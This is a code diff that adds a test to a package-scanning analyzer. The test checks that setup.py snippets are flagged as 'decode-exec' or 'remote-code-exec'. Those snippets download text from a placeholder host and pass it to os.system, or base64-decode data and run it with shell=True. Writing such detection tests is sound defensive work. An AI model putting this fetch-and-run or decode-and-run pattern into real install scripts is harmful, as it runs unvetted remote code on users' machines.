@@ -120,3 +120,21 @@ def test_prose_is_not_a_high_entropy_literal_but_packed_words_are():
         assert any(f.rule == "high-entropy-literal" for f in found), (sep, width)
     doc = analyze({"m/__init__.py": f"def f():\n    '''{prose * 3}'''\n"}).findings
     assert not any(f.rule == "high-entropy-literal" for f in doc)
+
+
+def test_shell_command_decoded_or_downloaded_at_run_time_is_a_payload_run():
+    """`os.system(b64decode(resp.text).decode())` runs a decoded payload as `exec` would."""
+    def rules(src: str) -> set[str]:
+        return {f.rule for f in analyze({"setup.py": src}).findings}
+
+    assert "decode-exec" in rules(
+        "import os, base64, requests\nr = requests.get('https://example.invalid/x')\n"
+        "os.system(base64.b64decode(r.text).decode('utf-8'))\n")
+    assert "decode-exec" in rules(
+        "import subprocess, base64\nsubprocess.Popen(base64.b64decode(c), shell=True)\n")
+    assert "remote-code-exec" in rules(
+        "import os, requests\nos.system(requests.get('https://example.invalid/x').text)\n")
+    benign = rules("import os, subprocess\ncmd = 'echo ' + name\nos.system(cmd)\n"
+                   "os.system('git describe'.encode().decode())\n"
+                   "out = subprocess.run(['git', 'log'], capture_output=True).stdout.decode()\n")
+    assert not benign & {"decode-exec", "remote-code-exec"}
